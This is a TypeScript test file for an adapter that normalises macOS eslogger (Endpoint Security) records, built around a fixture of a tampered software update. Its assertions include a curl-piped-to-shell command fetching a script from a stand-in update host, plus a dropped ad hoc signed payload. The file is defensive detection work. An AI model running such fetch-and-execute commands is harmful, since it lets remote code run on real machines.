import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ParseOutcome } from '../../../src/adapters/adapter.js';
import { verdictOfFlags } from '../../../src/adapters/eslogger/codesign.js';
import { esloggerAdapter as adapter } from '../../../src/adapters/eslogger/eslogger.js';
import { projectRoot } from '../../../src/config/paths.js';
import type { NormalizedEvent } from '../../../src/model/event.js';
import { onlyEventFrom, withNestedFields as withFields, type Rec } from '../../support/adapterHelpers.js';
const only = (record: unknown): NormalizedEvent => onlyEventFrom(adapter, record);



/**
 * One eslogger capture of a tampered update, written for these tests in eslogger's JSON shape
 * (keys and value types as eslogger writes them, message version 8): an updater forks, the child execs
 * `sh -c 'curl … | sh'`, the shell drops a binary and moves it over the app's executable, the app's
 * signature is invalidated, then Gatekeeper and XProtect verdicts.
 */
const capture: Rec[] = fs
  .readFileSync(path.join(projectRoot, 'test', 'fixtures', 'eslogger', 'tampered-update.jsonl'), 'utf8')
  .trim()
  .split('\n')
  .map((line) => JSON.parse(line) as Rec);

/** A fresh copy of the capture's record at `index`, so a test can edit it. */
const lineAt = (index: number) => (): Rec => structuredClone(capture[index]!);
const fork = lineAt(0);
const execSh = lineAt(1);
const forkSh = lineAt(2);
const execCurl = lineAt(3);
const create = lineAt(4);
const write = lineAt(5);
const closeModified = lineAt(6);
const closeUnmodified = lineAt(7);
const rename = lineAt(8);
const open = lineAt(9);
const exitCurl = lineAt(10);
const unlink = lineAt(11);
const csInvalidated = lineAt(12);
const gatekeeperFile = lineAt(13);
const gatekeeperPath = lineAt(14);
const malwareDetected = lineAt(15);
const malwareRemediated = lineAt(16);
const execPayload = lineAt(17);

const host = { id: 'unknown-mac', name: 'unknown-mac', os: 'macos' };
const uid = (pid: number, pidversion: number, hostId = 'unknown-mac') => `${hostId}|at:${pid}:${pidversion}`;
const UPDATER = '/Applications/Example.app/Contents/MacOS/Updater';




const rejected = (field: string, reason: string): ParseOutcome => ({ outcome: 'rejected', field, reason });

describe('eslogger adapter: recognizing records', () => {
  it('recognizes every eslogger record by its numeric event_type and the acting process audit token', () => {
    expect(capture).toHaveLength(18);
    for (const record of capture) expect(adapter.recognizes(record)).toBe(true);
  });

  it('does not claim ECS, OCSF, Zeek or Sysmon records, nor look-alikes without an audit token', () => {
    const others: Rec[] = [
      { '@timestamp': '2024-01-01T00:00:00Z', event: { category: ['process'], type: ['start'] }, process: { pid: 1, entity_id: 'x' } },
      { class_uid: 1007, activity_id: 1, time: 1704067200000, process: { pid: 4 } },
      { ts: 1704067200.1, uid: 'C1', 'id.orig_h': '10.0.0.1', 'id.resp_h': '10.0.0.2', 'id.resp_p': 443 },
      { winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', event_id: 1 }, process: { pid: 1 } },
      { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Hostname: 'h' },
      { Event: { System: { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational' } } },
      { event_type: '9', process: { audit_token: { pid: 1, pidversion: 1 } } },
      { event_type: 9, process: { pid: 1 } },
      { event_type: 9, process: { audit_token: 'x' } },
    ];
    for (const record of others) expect(adapter.recognizes(record)).toBe(false);
  });
});

describe('eslogger adapter: process lineage', () => {
  it('maps exec to a start of the new image, with argv as a shell-quoted command line and the exec-ing image as parent', () => {
    expect(only(execSh())).toEqual({
      v: 1,
      id: expect.any(String),
      kind: 'process.start',
      ts: Date.parse('2026-03-10T14:02:11.234Z'),
      host,
      source: { format: 'eslogger', recordId: expect.any(String) },
      process: {
        uid: uid(913, 1831),
        pid: 913,
        image: '/bin/sh',
        commandLine: "/bin/sh -c 'curl -fsSL https://cdn.example-updates.net/i.sh | sh'",
        user: '501',
        signature: { signed: true, status: 'valid', signingId: 'com.apple.sh', platformBinary: true },
      },
      parent: { uid: uid(913, 1830), pid: 913, image: UPDATER },
    });
  });

  it('maps fork to a start of the child running its parent image, with the parent code signature facts', () => {
    expect(only(fork())).toMatchObject({
      kind: 'process.start',
      process: { uid: uid(913, 1830), pid: 913, image: UPDATER, signature: { signed: true, status: 'valid', teamId: 'EXAMPLE123', signingId: 'com.example.updater', platformBinary: false } },
      parent: { uid: uid(812, 1624), pid: 812, image: UPDATER },
    });
    expect(only(fork())).toMatchObject({ process: { commandLine: undefined } });
  });

  it('chains fork and exec through the audit token: pidversion changes with exec, pid does not', () => {
    const [forked, shell, forkedShell, curl] = [fork(), execSh(), forkSh(), execCurl()].map(only) as [NormalizedEvent, NormalizedEvent, NormalizedEvent, NormalizedEvent];
    if (forked.kind !== 'process.start' || shell.kind !== 'process.start' || forkedShell.kind !== 'process.start' || curl.kind !== 'process.start') throw new Error('expected starts');
    expect(shell.parent?.uid).toBe(forked.process.uid);
    expect(forkedShell.parent?.uid).toBe(shell.process.uid);
    expect(curl.parent?.uid).toBe(forkedShell.process.uid);
    expect(curl.process).toMatchObject({ image: '/usr/bin/curl', commandLine: 'curl -fsSL https://cdn.example-updates.net/i.sh' });
  });

  it('maps exit to the end of the acting process', () => {
    expect(only(exitCurl())).toMatchObject({ kind: 'process.end', process: { uid: uid(914, 1833), pid: 914, image: '/usr/bin/curl' } });
  });

  it('quotes empty arguments and single quotes so the command line reads back as argv', () => {
    const record = withFields(execSh(), { 'event.exec.args': ['/bin/echo', '', "it's", 'a b', 'plain-arg=1'] });
    expect(only(record)).toMatchObject({ process: { commandLine: `/bin/echo '' 'it'\\''s' 'a b' plain-arg=1` } });
  });

  it('leaves the command line out when exec has no args', () => {
    expect(only(withFields(execSh(), { 'event.exec.args': [] }))).toMatchObject({ process: { commandLine: undefined } });
    expect(only(withFields(execSh(), { 'event.exec.args': undefined }))).toMatchObject({ process: { commandLine: undefined } });
  });
});

describe('eslogger adapter: code-signing facts', () => {
  it('reads an ad hoc signature without a team id as signed but not "valid"', () => {
    const event = only(execPayload());
    if (event.kind !== 'process.start') throw new Error('expected a process start');
    expect(event.process.image).toBe('/private/tmp/.x/agent');
    expect(event.process.signature).toEqual({ signed: true, status: 'adhoc', signingId: 'agent-55554944a1b2c3d4', platformBinary: false });
  });

  it('turns codesigning_flags into signed / status: CS_VALID, CS_ADHOC and CS_SIGNED', () => {
    expect(verdictOfFlags(undefined)).toEqual({});
    expect(verdictOfFlags(0)).toEqual({ signed: false });
    expect(verdictOfFlags(0x1)).toEqual({ signed: true, status: 'valid' });
    expect(verdictOfFlags(0x20010301)).toEqual({ signed: true, status: 'valid' });
    expect(verdictOfFlags(0x20010300)).toEqual({ signed: true, status: 'invalid' });
    expect(verdictOfFlags(0x20020003)).toEqual({ signed: true, status: 'adhoc' });
    expect(verdictOfFlags(637618689)).toEqual({ signed: true, status: 'valid' });
  });

  it('reads an unsigned process and leaves out facts eslogger did not give', () => {
    const record = withFields(execSh(), { 'event.exec.target.codesigning_flags': 0, 'event.exec.target.signing_id': '', 'event.exec.target.is_platform_binary': undefined });
    expect(only(record)).toMatchObject({ process: { signature: { signed: false } } });
    const bare = withFields(execSh(), { 'event.exec.target.codesigning_flags': undefined, 'event.exec.target.signing_id': undefined, 'event.exec.target.is_platform_binary': undefined });
    expect(only(bare)).toMatchObject({ process: { image: '/bin/sh', signature: undefined } });
  });
});

describe('eslogger adapter: file events', () => {
  const actor = { uid: uid(913, 1831), pid: 913, image: '/bin/sh' };

  it('maps create with a new path to a file create in that directory', () => {
    expect(only(create())).toMatchObject({ kind: 'file', op: 'create', path: '/private/tmp/.x/agent', actor, ts: Date.parse('2026-03-10T14:02:12.000Z') });
  });

  it('maps create of an existing file to its path', () => {
    const record = withFields(create(), { 'event.create.destination_type': 0, 'event.create.destination': { existing_file: { path: '/etc/hosts', path_truncated: false, stat: {} } } });
    expect(only(record)).toMatchObject({ op: 'create', path: '/etc/hosts' });
  });

  it('joins a root directory and a file name without a double slash', () => {
    const record = withFields(create(), { 'event.create.destination.new_path.dir.path': '/' });
    expect(only(record)).toMatchObject({ path: '/agent' });
  });

  it('maps write and a close after modification to file modify, and skips a close without one', () => {
    expect(only(write())).toMatchObject({ kind: 'file', op: 'modify', path: '/private/tmp/.x/agent', actor });
    expect(only(closeModified())).toMatchObject({ kind: 'file', op: 'modify', path: '/private/tmp/.x/agent', actor });
    expect(adapter.parse(closeUnmodified())).toEqual({ outcome: 'skipped', reason: 'eslogger close of a file that was not modified' });
  });

  it('maps rename over an existing file to a rename with the previous path', () => {
    expect(only(rename())).toMatchObject({ kind: 'file', op: 'rename', path: '/Applications/Example.app/Contents/MacOS/Example', previousPath: '/private/tmp/.x/agent', actor });
  });

  it('maps rename to a new path in a directory', () => {
    const record = withFields(rename(), { 'event.rename.destination_type': 1, 'event.rename.destination': { new_path: { dir: { path: '/Users/alice/Library/LaunchAgents', path_truncated: false }, filename: 'com.example.agent.plist' } } });
    expect(only(record)).toMatchObject({ op: 'rename', path: '/Users/alice/Library/LaunchAgents/com.example.agent.plist', previousPath: '/private/tmp/.x/agent' });
  });

  it('maps unlink to a file delete', () => {
    expect(only(unlink())).toMatchObject({ kind: 'file', op: 'delete', path: '/private/tmp/.x/i.sh', actor });
  });

  it('skips event types it does not model, naming them', () => {
    expect(adapter.parse(open())).toEqual({ outcome: 'skipped', reason: 'eslogger event_type 10 (open) is not modelled' });
    expect(adapter.parse({ event_type: 20, process: { audit_token: {} } })).toEqual({ outcome: 'skipped', reason: 'eslogger event_type 20 (no event body) is not modelled' });
  });
});

describe('eslogger adapter: verifier verdicts', () => {
  it('maps cs_invalidated to an invalid signature verdict on the acting process executable', () => {
    expect(only(csInvalidated())).toMatchObject({
      kind: 'file.signature',
      path: '/Applications/Example.app/Contents/MacOS/Example',
      verdict: 'cs invalidated',
      signature: { signed: true, status: 'invalid', teamId: 'EXAMPLE123', signingId: 'com.example.app', platformBinary: false },
      actor: { uid: uid(960, 1950), image: '/Applications/Example.app/Contents/MacOS/Example' },
    });
  });

  it('maps a Gatekeeper user override of a file, with its SHA-256 and signing info', () => {
    expect(only(gatekeeperFile())).toMatchObject({
      kind: 'file.signature',
      path: '/Users/alice/Downloads/Helper.app/Contents/MacOS/Helper',
      verdict: 'user override',
      hashes: { sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08' },
      signature: { signed: true, signingId: 'com.example.helper', teamId: 'HELPERTEAM' },
      actor: { uid: uid(160, 160), image: '/usr/libexec/syspolicyd' },
    });
  });

  it('maps a Gatekeeper override given as a path, claiming nothing about a signature it was not given', () => {
    const event = only(gatekeeperPath());
    expect(event).toMatchObject({ kind: 'file.signature', path: '/Users/alice/Downloads/Unsigned.app', verdict: 'user override', signature: {} });
    expect(event).toMatchObject({ hashes: undefined });
  });

  it('skips a Gatekeeper override whose file Endpoint Security could not name', () => {
    expect(adapter.parse(withFields(gatekeeperPath(), { 'event.gatekeeper_user_override.file': null }))).toEqual({
      outcome: 'skipped',
      reason: 'eslogger gatekeeper_user_override without a file path',
    });
  });

  it('maps an XProtect detection to a malware verdict on the detected executable, else the detected path', () => {
    expect(only(malwareDetected())).toMatchObject({ kind: 'file.signature', path: '/private/tmp/.x/Agent.app/Contents/MacOS/agent', verdict: 'malware', signature: {} });
    const older = withFields(malwareDetected(), { 'event.xp_malware_detected.detected_executable': undefined });
    expect(only(older)).toMatchObject({ path: '/private/tmp/.x/Agent.app' });
  });

  it('maps an XProtect remediation by its success, and skips one without a path', () => {
    expect(only(malwareRemediated())).toMatchObject({ kind: 'file.signature', path: '/private/tmp/.x/Agent.app', verdict: 'remediated' });
    expect(only(withFields(malwareRemediated(), { 'event.xp_malware_remediated.success': false }))).toMatchObject({ verdict: 'remediation failed' });
    expect(adapter.parse(withFields(malwareRemediated(), { 'event.xp_malware_remediated.remediated_path': null }))).toEqual({
      outcome: 'skipped',
      reason: 'eslogger xp_malware_remediated without a remediated_path',
    });
  });
});

describe('eslogger adapter: host, time and identity', () => {
  it('takes the host from a collector-added host or hostname field, else the name the user gave, else a placeholder per input file', () => {
    expect(only(execPayload())).toMatchObject({ host: { id: 'alice-mbp.corp.example', name: 'alice-mbp.corp.example', os: 'macos' }, process: { uid: uid(940, 1900, 'alice-mbp.corp.example') } });
    expect(only({ ...exitCurl(), hostname: 'Build-Mac-07' })).toMatchObject({ host: { id: 'build-mac-07', name: 'Build-Mac-07', os: 'macos' } });
    expect(only({ ...exitCurl(), host: { name: 'ci-mac.example' } })).toMatchObject({ host: { id: 'ci-mac.example' } });
    expect(only(exitCurl())).toMatchObject({ host });
    const named = adapter.parse(exitCurl(), { fileName: 'captures/mac-07.jsonl', hostName: 'Design-Mac-07' });
    expect(named.outcome === 'events' && named.events[0]!.host).toEqual({ id: 'design-mac-07', name: 'Design-Mac-07', os: 'macos' });
    // Two unnamed captures never become one host: a chain must not be stitched across Macs.
    const unnamed = adapter.parse(exitCurl(), { fileName: 'captures/mac-07.jsonl' });
    expect(unnamed.outcome === 'events' && unnamed.events[0]!.host.id).toBe('unknown-mac:mac-07.jsonl');
    const collectorNamed = adapter.parse({ ...exitCurl(), hostname: 'build-mac-07' }, { fileName: 'x.jsonl', hostName: 'other' });
    expect(collectorNamed.outcome === 'events' && collectorNamed.events[0]!.host.id).toBe('build-mac-07');
  });

  it('cuts nanoseconds to milliseconds and honours an offset', () => {
    expect(only(withFields(exitCurl(), { time: '2026-03-10T14:02:13.999999999Z' })).ts).toBe(Date.parse('2026-03-10T14:02:13.999Z'));
    expect(only(withFields(exitCurl(), { time: '2026-03-10T16:02:13.5+02:00' })).ts).toBe(Date.parse('2026-03-10T14:02:13.500Z'));
    expect(only(withFields(exitCurl(), { time: '2026-03-10T16:02:13+0200' })).ts).toBe(Date.parse('2026-03-10T14:02:13.000Z'));
  });

  it('gives the same record the same event id, and different records different ids', () => {
    const first = only(execSh());
    expect(only(execSh()).id).toBe(first.id);
    expect(only(execSh()).source).toEqual(first.source);
    const ids = capture.flatMap((r) => {
      const outcome = adapter.parse(r);
      return outcome.outcome === 'events' ? outcome.events.map((e) => e.id) : [];
    });
    expect(ids).toHaveLength(16);
    expect(new Set(ids).size).toBe(16);
  });
});

describe('eslogger adapter: malformed records are rejected with the field and why', () => {
  it('rejects a missing, non-string, malformed or impossible time', () => {
    expect(adapter.parse(withFields(exitCurl(), { time: undefined }))).toEqual(rejected('time', 'is missing'));
    expect(adapter.parse(withFields(exitCurl(), { time: 1773151333 }))).toEqual(rejected('time', 'must be an ISO 8601 string, got 1773151333'));
    expect(adapter.parse(withFields(exitCurl(), { time: 'yesterday' }))).toEqual(rejected('time', 'is not an ISO 8601 timestamp: "yesterday"'));
    expect(adapter.parse(withFields(exitCurl(), { time: '2026-02-30T10:00:00.000000000Z' }))).toEqual(rejected('time', 'is not a valid date: "2026-02-30T10:00:00.000000000Z"'));
  });

  it('rejects a non-numeric event_type and a body that does not match it', () => {
    expect(adapter.parse(withFields(execSh(), { event_type: '9' }))).toEqual(rejected('event_type', 'must be a non-negative integer, got "9"'));
    expect(adapter.parse(withFields(fork(), { event_type: 9 }))).toEqual(rejected('event.exec', 'is missing (event_type 9 is exec, but the record has event.fork)'));
    expect(adapter.parse(withFields(exitCurl(), { event: undefined }))).toEqual(rejected('event', 'is missing'));
  });

  it('rejects audit tokens without a usable pid or pidversion', () => {
    expect(adapter.parse(withFields(exitCurl(), { 'process.audit_token.pidversion': undefined }))).toEqual(rejected('process.audit_token.pidversion', 'is missing'));
    expect(adapter.parse(withFields(execSh(), { 'event.exec.target.audit_token.pid': '913' }))).toEqual(rejected('event.exec.target.audit_token.pid', 'must be a non-negative integer, got "913"'));
    expect(adapter.parse(withFields(fork(), { 'event.fork.child': undefined }))).toEqual(rejected('event.fork.child', 'is missing'));
  });

  it('rejects bad process fields: executable, args, flags, booleans and strings', () => {
    expect(adapter.parse(withFields(exitCurl(), { 'process.executable': undefined }))).toEqual(rejected('process.executable', 'is missing'));
    expect(adapter.parse(withFields(exitCurl(), { 'process.executable.path': '' }))).toEqual(rejected('process.executable.path', 'is missing'));
    expect(adapter.parse(withFields(execSh(), { 'event.exec.args': 'sh -c x' }))).toEqual(rejected('event.exec.args', 'must be an array of strings, got "sh -c x"'));
    expect(adapter.parse(withFields(execSh(), { 'event.exec.target.codesigning_flags': -1 }))).toEqual(rejected('event.exec.target.codesigning_flags', 'must be a non-negative integer, got -1'));
    expect(adapter.parse(withFields(execSh(), { 'event.exec.target.is_platform_binary': 'true' }))).toEqual(rejected('event.exec.target.is_platform_binary', 'must be true or false, got "true"'));
    expect(adapter.parse(withFields(execSh(), { 'event.exec.target.team_id': 5 }))).toEqual(rejected('event.exec.target.team_id', 'must be a string, got 5'));
  });

  it('rejects bad file fields: modified flag, destination and truncated paths', () => {
    expect(adapter.parse(withFields(closeModified(), { 'event.close.modified': undefined }))).toEqual(rejected('event.close.modified', 'is missing'));
    expect(adapter.parse(withFields(create(), { 'event.create.destination': {} }))).toEqual(rejected('event.create.destination', 'has neither existing_file nor new_path, got {}'));
    expect(adapter.parse(withFields(create(), { 'event.create.destination.new_path.filename': undefined }))).toEqual(rejected('event.create.destination.new_path.filename', 'is missing'));
    expect(adapter.parse(withFields(write(), { 'event.write.target.path_truncated': true }))).toEqual(
      rejected('event.write.target.path_truncated', 'is true: Endpoint Security cut the path, so it names no real file'),
    );
    expect(adapter.parse(withFields(rename(), { 'event.rename.source': 'x' }))).toEqual(rejected('event.rename.source', 'must be an object, got "x"'));
  });

  it('rejects bad verdict fields and a bad host', () => {
    expect(adapter.parse(withFields(gatekeeperFile(), { 'event.gatekeeper_user_override.sha256': 'abc' }))).toEqual(rejected('event.gatekeeper_user_override.sha256', 'must be 64 hex digits, got "abc"'));
    expect(adapter.parse(withFields(gatekeeperFile(), { 'event.gatekeeper_user_override.file': 7 }))).toEqual(rejected('event.gatekeeper_user_override.file', 'must be a path or a file object, got 7'));
    expect(adapter.parse(withFields(malwareRemediated(), { 'event.xp_malware_remediated.success': undefined }))).toEqual(rejected('event.xp_malware_remediated.success', 'is missing'));
    expect(adapter.parse(withFields(malwareDetected(), { 'event.xp_malware_detected.detected_executable': undefined, 'event.xp_malware_detected.detected_path': undefined }))).toEqual(
      rejected('event.xp_malware_detected.detected_path', 'is missing'),
    );
    expect(adapter.parse({ ...exitCurl(), host: 42 })).toEqual(rejected('host', 'must be a host name or an object with a name, got 42'));
    expect(adapter.parse({ ...exitCurl(), hostname: ['a'] })).toEqual(rejected('hostname', 'must be a string, got ["a"]'));
  });

  it('never throws on odd input', () => {
    for (const record of [{}, { event_type: 9 }, { event_type: 9, event: { exec: {} }, time: '2026-03-10T14:02:11Z' }, { event_type: 9, event: { exec: { target: {} } }, time: '2026-03-10T14:02:11Z', process: {} }]) {
      expect(adapter.parse(record).outcome).toBe('rejected');
    }
  });
});
